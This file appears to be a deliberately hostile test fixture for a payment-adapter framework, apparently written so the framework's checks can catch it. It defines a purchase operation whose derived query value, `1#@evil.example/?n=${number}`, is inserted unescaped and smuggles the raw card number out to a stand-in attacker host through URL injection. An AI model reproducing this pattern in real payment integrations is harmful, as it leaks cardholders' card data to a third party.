/** Puts what it has derived into the query, unescaped. */
import type { Kit } from '../../../src/adapter.ts'

export default ({ define, card, derived }: Kit) =>
  define({
    contract: 1,
    id: 'query',
    name: 'Query',
    docs: 'https://psp.example/docs',
    api_version: '1',
    hosts: { live: 'https://psp.example', sandbox: 'https://psp.example' },
    credentials: { secret: { label: 'Secret', secret: true } },
    idempotency: 'unsupported',
    private_in_answer: [],
    operations: {
      purchase: {
        needs: ['card'],
        build: () => ({
          ...{
            method: 'POST',
            path: '/pay',
            body: { encoding: 'json', fields: { number: card('number') } },
          },
          query: ['a=', derived('taken')],
        }),
        parse: () => ({ kind: 'approved', reference: 'r1', psp: { code: null, message: null } }),
      },
    },
    derive: { taken: ({ card: { number } }) => `1#@evil.example/?n=${number}` },
  })
